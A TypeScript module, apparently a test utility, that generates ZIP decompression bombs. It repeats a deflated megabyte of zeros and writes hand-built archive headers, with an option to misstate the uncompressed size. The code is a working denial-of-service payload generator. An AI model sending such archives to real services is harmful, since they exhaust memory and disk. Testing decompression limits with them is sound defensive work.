/** Archives that are small to send and huge to read, made without holding what they hold. */
import { constants, crc32, deflateRawSync } from 'node:zlib'

const PIECE = Buffer.alloc(2 ** 20)
/** It refers to nothing before it, so that it may stand any number of times in one stream. */
const PACKED_PIECE = deflateRawSync(PIECE, { level: 9, finishFlush: constants.Z_FULL_FLUSH })

interface Packed {
  readonly data: Buffer
  readonly bytes: number
  readonly checksum: number
}

/** So many MiB of zeros, deflated. */
function packedZeros(mib: number): Packed {
  let checksum = 0
  for (let piece = 0; piece < mib; piece += 1) checksum = crc32(PIECE, checksum)
  const pieces = new Array<Buffer>(mib).fill(PACKED_PIECE)
  return { data: Buffer.concat([...pieces, deflateRawSync('')]), bytes: mib * PIECE.byteLength, checksum }
}

export interface Bomb {
  readonly mib: number
  readonly entry: string
  /** What the archive says; the truth unless told. */
  readonly declaredBytes?: number
}

/** One entry, by the layout of APPNOTE 4.3: local header, data, central directory, end of it. */
export function bomb({ mib, entry, declaredBytes }: Bomb): Buffer {
  const { data, bytes, checksum } = packedZeros(mib)
  const name = Buffer.from(entry)
  const local = Buffer.alloc(30)
  local.writeUInt32LE(0x04034b50, 0)
  const central = Buffer.alloc(46)
  central.writeUInt32LE(0x02014b50, 0)
  for (const [header, at] of [
    [local, 8],
    [central, 10],
  ] as const) {
    header.writeUInt16LE(8, at)
    header.writeUInt32LE(checksum, at + 6)
    header.writeUInt32LE(data.byteLength, at + 10)
    header.writeUInt32LE(declaredBytes ?? bytes, at + 14)
    header.writeUInt16LE(name.byteLength, at + 18)
  }
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(central.byteLength + name.byteLength, 12)
  end.writeUInt32LE(local.byteLength + name.byteLength + data.byteLength, 16)
  return Buffer.concat([local, name, data, central, name, end])
}
